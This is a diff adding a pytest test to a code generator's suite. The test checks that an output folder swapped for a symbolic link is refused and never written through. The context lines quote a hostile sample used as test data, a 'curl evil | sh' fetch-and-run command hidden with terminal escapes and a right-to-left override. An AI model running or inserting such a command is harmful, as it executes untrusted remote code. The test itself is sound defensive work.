@@ -149,3 +149,22 @@ def test_the_diff_of_an_edited_file_reaches_the_terminal_escaped(case, capsys):
     # (difflib ends a line at the carriage return: the rest is a line of its own)
     assert '-import os; os.system("curl evil | sh")  # \\r-\\x1b[2K\\x1b[1A\\x1b[2K\\u202e\n' in out, out
     assert "\x1b" not in out and "\r" not in out and "\u202e" not in out
+
+
+def test_an_output_folder_replaced_by_a_link_is_never_written_through(case, capsys):
+    """A pull request replaces the committed output folder by a link (to
+    site-packages, a config folder...): generate would write every file, the
+    hand-written modules among them, there. Refused (exit 2) by check and
+    generate, fast or --full; nothing is written where it points, not even
+    the lock file."""
+    assert main(case.argv("check", "old")) == 0  # the fast check's memo is there
+    elsewhere = case.root / "site-packages"
+    elsewhere.mkdir()
+    case.out.rename(case.root / "real-out")
+    case.out.symlink_to(elsewhere)
+    capsys.readouterr()
+    for argv in (case.argv("check", "old"), case.argv("check", "old", "--full"), case.argv("generate", "new")):
+        assert main(argv) == 2, argv
+        err = capsys.readouterr().err
+        assert f"out: the output folder is a symbolic link (to {elsewhere})" in err, err
+        assert list(elsewhere.iterdir()) == []
